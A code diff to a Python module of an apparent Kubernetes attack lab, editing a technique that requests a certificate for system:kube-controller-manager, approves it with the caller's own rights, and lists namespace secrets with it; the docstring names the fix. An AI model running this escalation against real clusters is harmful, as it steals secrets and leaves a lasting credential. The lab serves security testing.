@@ -1,7 +1,10 @@
-"""Request a certificate for another user through the API, approve it oneself, and use it.
+"""Request a certificate for another user through the API, approve the request, and use it.
 
-The user is the controller-manager: it is in no group that the apiserver refuses to put into a
-certificate, and yet it reads every secret. The certificate outlives whatever let it be made.
+The attacker needs the rights to create and to approve certificate signing requests. They ask for
+a certificate of the user ``system:kube-controller-manager``. This user is in no forbidden group,
+so admission accepts the request, and it may read every secret. The certificate stays valid after
+the attacker loses the rights that they used. An authorizer that lets only administrators approve
+requests stops it.
 """
 
 from __future__ import annotations
@@ -18,9 +21,9 @@ from labkit.techniques._lib.api.certificate_requests import (
     APPROVE,
     CREATE,
     PATH,
-    approved,
+    approval_of,
     new_request,
-    removed,
+    remove_request,
 )
 from labkit.techniques._lib.machines.admin import create, read
 from labkit.techniques._lib.machines.reach import Answer, request, run_from
@@ -40,18 +43,18 @@ if TYPE_CHECKING:
 __all__ = ["TECHNIQUE"]
 
 NAME, USER = "labkit-other", "system:kube-controller-manager"
-#: What the controller-manager watches, it may list.
+#: The controller manager may list this, because it watches it.
 LIST = "/api/v1/namespaces/shop/secrets"
 PATIENCE = 20.0
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whether the caller may request and approve."""
+    """Predict whether the caller may create a request and approve it."""
     return may_all(model, caller_at(model.environment, foothold), [CREATE, *APPROVE])
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Request, approve, wait for the certificate, and list secrets with it."""
+    """Create a request, approve it, wait for the certificate, and list secrets with it."""
     secret = true_secret(lab, "shop", "db-credentials", "password")
     options = options_at(lab.environment, foothold)
     evidence = [f"asked for a certificate of {USER}: POST {PATH} at the apiserver"]
@@ -66,18 +69,18 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
                 return _refused(lab, foothold, made.refusal, evidence, body)
             evidence.append(f"approved it: PUT {PATH}/{NAME}/approval")
             put = [*options, "--request", "PUT"]
-            allowed = send(f"{PATH}/{NAME}/approval", put, approved(json.loads(made.body)))
+            allowed = send(f"{PATH}/{NAME}/approval", put, approval_of(json.loads(made.body)))
             if allowed.refusal:
                 evidence[-1] = f"tried to approve it: PUT {PATH}/{NAME}/approval"
                 return _refused(lab, foothold, allowed.refusal, evidence)
             certificate = _certificate(lab)
             if run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=certificate).exit_code:
-                raise ProbeError("the certificate could not be kept")
+                raise ProbeError("the certificate could not be written at the foothold")
             found = send(LIST, ["--cert", f"{folder}/crt", "--key", f"{folder}/key"])
     finally:
-        removed(lab, NAME)
+        remove_request(lab, NAME)
     if found.refusal or not secret.found_in(found.body):
-        raise ProbeError(f"as {USER}: {found.refusal or 'the secret is not among the listed'}")
+        raise ProbeError(f"as {USER}: {found.refusal or 'the secret is not in the list'}")
     evidence.append(f"as {USER}, read: {secret.proof}")
     reason = "HTTP 200, the caller approves its own request"
     return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))
@@ -90,9 +93,9 @@ def _refused(
     evidence: list[str],
     body: dict[str, Any] | None = None,
 ) -> Verdict:
-    """Let the administrator make and approve the request that the attacker could not."""
+    """Create and approve the refused request as the administrator: the positive control."""
     if not reason.startswith(("HTTP 401", "HTTP 403")):
-        raise ProbeError(f"{TECHNIQUE.name}: {reason} says nothing")
+        raise ProbeError(f"{TECHNIQUE.name}: inconclusive answer {reason}")
     if body is not None:
         create(lab, PATH, body)
     lab.kubectl("certificate", "approve", NAME)
@@ -102,7 +105,7 @@ def _refused(
 
 
 def _certificate(lab: Lab) -> bytes:
-    """Wait for the certificate."""
+    """Wait for the signed certificate and return it."""
     deadline = time.monotonic() + PATIENCE
     while time.monotonic() < deadline:
         if found := read(lab, f"{PATH}/{NAME}").get("status", {}).get("certificate"):
